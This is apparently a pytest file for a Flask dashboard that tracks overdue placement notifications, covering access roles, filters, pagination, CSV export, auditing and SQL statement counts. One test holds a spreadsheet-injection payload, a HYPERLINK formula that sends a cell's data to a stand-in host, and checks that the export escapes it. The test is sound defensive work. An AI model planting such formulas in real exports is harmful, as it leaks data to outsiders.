"""The dashboard pages through the test client: who may see them, the panels alone, the chase
list's filters, pages and export, and the number of SQL statements each makes."""

import csv
import io
import re
from datetime import date, timedelta

import pytest
from flask import url_for

from tests.support.builders import LEEDS, World, at, create_notification, create_world
from tests.support.queries import counted_statements
from tests.support.requests import expect_status, sign_in


@pytest.fixture
def world(db_session) -> World:
    world = create_world(db_session)
    db_session.commit()
    return world


@pytest.mark.parametrize(
    "url",
    [
        "/dashboard",
        "/dashboard/panels/headlines",
        "/dashboard/panels/chase",
        "/dashboard/chase-list",
        "/dashboard/chase-list/table",
        "/dashboard/chase-list.csv",
    ],
)
@pytest.mark.parametrize(("role", "status"), [("social_worker", 403), ("business_support", 403)])
def test_only_sqa_officers_managers_and_admins_may_see_the_dashboard(
    client, db_session, url, role, status
):
    sign_in(client, db_session, role)
    assert client.get(url).status_code == status


@pytest.mark.parametrize("role", ["sqa_officer", "manager", "admin"])
def test_sqa_officers_managers_and_admins_see_the_dashboard(client, db_session, role):
    sign_in(client, db_session, role)
    response = client.get("/dashboard")
    assert response.status_code == 200
    assert "Notifications dashboard" in response.text


def test_signed_out_people_are_sent_to_sign_in(client, db_session):
    response = client.get("/dashboard/panels/headlines")
    assert response.status_code == 302
    assert "/sign-in" in response.headers["Location"]


@pytest.mark.parametrize(
    ("role", "home"),
    [
        ("sqa_officer", "/dashboard"),
        ("manager", "/dashboard"),
        ("social_worker", "/my-work"),
        ("business_support", "/inbound"),
    ],
)
def test_the_home_page_leads_sqa_officers_and_managers_to_the_dashboard(
    client, db_session, role, home
):
    sign_in(client, db_session, role)
    assert expect_status(client.get("/"), 302).headers["Location"] == home


def _chase_ids(html: str) -> list[int]:
    return [int(i) for i in re.findall(r'data-notification-id="(\d+)"', html)]


def test_the_dashboard_shows_the_counts_the_chase_list_and_both_charts(client, db_session, world):
    sign_in(client, db_session, "sqa_officer")
    html = expect_status(client.get("/dashboard"), 200).text

    # real today is long after the world's March 2026: n4 is overdue too by now
    assert re.search(r'id="headline-overdue".*?app-stat__number">4<', html, re.S)
    assert re.search(r'id="headline-placed".*?app-stat__number">4<', html, re.S)
    assert re.search(r'id="headline-approval".*?app-stat__number">2<', html, re.S)
    assert re.search(r'id="headline-failed".*?app-stat__number">3<', html, re.S)
    n = world.notices
    assert _chase_ids(html) == [n[k].id for k in ("n2", "n1", "n3", "n4")]
    assert html.count('<svg class="app-chart"') == 3
    assert 'data-refresh-url="/dashboard/panels/trends"' in html
    assert "dashboard.js" in html
    # children by initials and case reference only
    assert "CT " + world.children["c2"].case_reference in html.replace(
        '<span class="govuk-visually-hidden">,</span>', ""
    )
    assert world.children["c2"].family_name not in html


def test_each_row_offers_a_reminder_an_acknowledgement_and_comes_back_here(
    client, db_session, world
):
    sign_in(client, db_session, "sqa_officer")
    html = expect_status(client.get("/dashboard"), 200).text
    n1, n2 = world.notices["n1"].id, world.notices["n2"].id
    with client.application.test_request_context():
        remind = url_for("acknowledgements.remind", notification_id=n1, next="/dashboard")
        record = url_for("acknowledgements.record", notification_id=n2, next="/dashboard")
        at_limit = url_for("acknowledgements.remind", notification_id=n2, next="/dashboard")
    assert f'action="{remind}"'.replace("&", "&amp;") in html
    assert f'href="{record}"'.replace("&", "&amp;") in html
    # n2 has had its 3 reminders (REMINDER_LIMIT): only escalation is left, no button
    assert f'action="{at_limit}"'.replace("&", "&amp;") not in html
    assert 'name="csrf_token"' in html
    # the directory is the administrators': others are not offered a link they cannot open
    assert "Fix the address" not in html


def test_administrators_are_offered_the_recipients_directory_entry(client, db_session, world):
    sign_in(client, db_session, "admin")
    html = expect_status(client.get("/dashboard/panels/chase"), 200).text
    assert f'href="/directory/authorities/{LEEDS}">Fix the address' in html


@pytest.mark.parametrize("name", ["headlines", "chase", "authorities", "trends"])
def test_each_panel_is_served_alone_as_a_fragment(client, db_session, world, name):
    sign_in(client, db_session, "sqa_officer")
    response = client.get(f"/dashboard/panels/{name}")
    assert response.status_code == 200
    assert response.mimetype == "text/html"
    assert response.headers["Cache-Control"] == "no-store"
    assert "<html" not in response.text and "govuk-header" not in response.text
    assert response.text.strip()


def test_an_unknown_panel_is_not_found(client, db_session):
    sign_in(client, db_session, "sqa_officer")
    assert client.get("/dashboard/panels/everything").status_code == 404


def test_the_authorities_and_trends_panels_hold_their_tables(client, db_session, world):
    sign_in(client, db_session, "sqa_officer")
    authorities = expect_status(client.get("/dashboard/panels/authorities"), 200).text
    assert (
        'data-authority="E08000035"' in authorities and 'data-authority="E08000025"' in authorities
    )
    assert "<svg" in authorities and "<title" in authorities
    trends = expect_status(client.get("/dashboard/panels/trends"), 200).text
    assert len(re.findall(r'data-month="\d{4}-\d{2}"', trends)) == 12


def test_the_chase_list_shows_which_notices_went_late_and_why(client, db_session, world):
    late = world.notices["n1"]
    late.send_by = date(2026, 2, 27)  # sent 2 March 2026
    late.late_reason = "Recorded after the move"
    db_session.commit()
    sign_in(client, db_session, "sqa_officer")

    page = expect_status(client.get("/dashboard/chase-list"), 200).text

    row = page.split(f'data-notification-id="{late.id}"')[1].split("</tr>")[0]
    assert "Sent late" in row and "Late because: Recorded after the move" in row
    other = page.split(f'data-notification-id="{world.notices["n2"].id}"')[1].split("</tr>")[0]
    assert "Sent late" not in other


def test_the_chase_list_filters_with_a_get_form(client, db_session, world):
    sign_in(client, db_session, "sqa_officer")
    n = world.notices
    everything = expect_status(client.get("/dashboard/chase-list"), 200).text
    assert _chase_ids(everything) == [n[k].id for k in ("n2", "n1", "n3", "n4")]
    assert '<form method="get"' in everything

    leeds = expect_status(client.get(f"/dashboard/chase-list?host_authority={LEEDS}"), 200).text
    assert _chase_ids(leeds) == [n["n2"].id, n["n3"].id]
    assert f'<option value="{LEEDS}" selected>' in leeds

    march = expect_status(
        client.get(
            "/dashboard/chase-list?sent_from=3&sent_from=3&sent_from=2026&event=address_change"
        ),
        200,
    ).text
    assert _chase_ids(march) == [n["n3"].id, n["n4"].id]

    worker = expect_status(
        client.get(f"/dashboard/chase-list?social_worker={world.other_worker.id}"), 200
    ).text
    assert _chase_ids(worker) == [n["n3"].id]


def test_a_wrong_date_is_shown_as_an_error_and_left_out(client, db_session, world):
    sign_in(client, db_session, "sqa_officer")
    response = client.get("/dashboard/chase-list?sent_from=31&sent_from=2&sent_from=2026")
    assert response.status_code == 200
    assert "govuk-error-summary" in response.text
    assert len(_chase_ids(response.text)) == 4


def test_the_chase_list_is_paginated_25_a_page(client, db_session, world):
    c1, p1 = world.children["c1"], world.placements["c1"]
    for i in range(27):
        create_notification(
            db_session,
            c1,
            p1,
            sent_at=at(2025, 11, 3),
            acknowledge_by=date(2025, 11, 10) + timedelta(days=i % 3),
        )
    db_session.commit()
    sign_in(client, db_session, "sqa_officer")

    first = expect_status(client.get("/dashboard/chase-list"), 200).text
    second = expect_status(client.get("/dashboard/chase-list?page=2"), 200).text
    assert len(_chase_ids(first)) == 25 and len(_chase_ids(second)) == 6
    assert set(_chase_ids(first)).isdisjoint(_chase_ids(second))
    assert "govuk-pagination" in first and 'href="/dashboard/chase-list?page=2"' in first
    assert "31 overdue notices" in first
    # the filters travel with the pages
    filtered = expect_status(client.get("/dashboard/chase-list?host_authority=E08000025"), 200).text
    assert "govuk-pagination" in filtered
    assert "host_authority=E08000025&amp;page=2" in filtered


def test_the_chase_list_exports_as_csv_with_the_same_filters_and_no_dates_of_birth(
    client, db_session, world
):
    sign_in(client, db_session, "sqa_officer")
    response = client.get(f"/dashboard/chase-list.csv?host_authority={LEEDS}")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="chase-list-')
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["Case reference"] for r in rows] == [
        world.children["c2"].case_reference,
        world.children["c6"].case_reference,
    ]
    assert rows[0]["Recipient"] == "Leeds" and rows[0]["Days counted"] == "working days"
    assert rows[0]["Sent on"] == "2026-02-02" and rows[0]["Escalated on"] == "2026-02-23"
    text = response.text
    for child in world.children.values():
        assert child.date_of_birth.isoformat() not in text
        assert child.family_name not in text


def test_the_chase_list_csv_writes_a_formula_as_text(client, db_session, world):
    """A case reference or a recipient's name a spreadsheet would run (issue 14)."""
    link = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
    world.children["c2"].case_reference = link
    world.notices["n2"].recipient_name = "@SUM(1+1)"
    db_session.commit()
    sign_in(client, db_session, "sqa_officer")

    response = expect_status(client.get(f"/dashboard/chase-list.csv?host_authority={LEEDS}"), 200)

    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows[0]["Case reference"] == "'" + link
    assert rows[0]["Recipient"] == "'@SUM(1+1)"
    assert all(not cell.startswith(("=", "@")) for row in rows for cell in row.values())


def test_exporting_is_audited(client, db_session, world):
    from sqlalchemy import select

    from models import AuditEvent

    sign_in(client, db_session, "sqa_officer")
    assert client.get("/dashboard/chase-list.csv?event=placement_start").status_code == 200
    events = db_session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all()
    assert [(e.subject_type, e.detail) for e in events] == [
        ("chase_list", {"event": "placement_start"})
    ]


# --- the number of SQL statements does not grow with the rows --------------------------------


PAGES = [
    "/dashboard",
    "/dashboard/panels/headlines",
    "/dashboard/panels/chase",
    "/dashboard/panels/authorities",
    "/dashboard/panels/trends",
    "/dashboard/chase-list",
    "/dashboard/chase-list?host_authority=E08000035&team=North+team",
    "/dashboard/chase-list/table",
    "/dashboard/chase-list.csv",
]


def _statements_per_page(client) -> dict[str, int]:
    found = {}
    for url in PAGES:
        assert (
            client.get(url).status_code == 200
        )  # warm: compiled statements, calendars, the signed-in user
        with counted_statements() as statements:
            assert client.get(url).status_code == 200
        found[url] = len(statements)
    return found


def test_the_statements_a_page_makes_do_not_grow_with_the_rows(
    client, db_session, world, monkeypatch
):
    # The session's own writes are not the page's: its last-seen time (at most once a minute)
    # and, on the first page, the CSRF token of the sign-out button. The signed-in user is
    # held here, so it stays loaded between requests as the warm-up means it to.
    monkeypatch.setattr("notify.auth.sessions.LAST_SEEN_STEP", timedelta(days=1))
    user = sign_in(client, db_session, "sqa_officer")
    assert client.get("/dashboard").status_code == 200
    small = _statements_per_page(client)

    # ten times the overdue notices, for more children, in more places
    for key in ("c1", "c2", "c3", "c6"):
        child, placement = world.children[key], world.placements[key]
        for i in range(10):
            create_notification(
                db_session,
                child,
                placement,
                recipient_code=LEEDS if i % 2 else "E08000025",
                sent_at=at(2026, 6, 1 + i),
                acknowledge_by=date(2026, 6, 8 + i),
                status="acknowledged" if i % 3 == 0 else "sent",
                acknowledged_at=at(2026, 6, 9 + i) if i % 3 == 0 else None,
            )
    db_session.commit()
    large = _statements_per_page(client)

    assert large == small
    # a handful each (one of them the session's row; the chase list also records who saw
    # which children): aggregates, not rows
    assert max(small.values()) <= 12, small
    assert user.role == "sqa_officer"
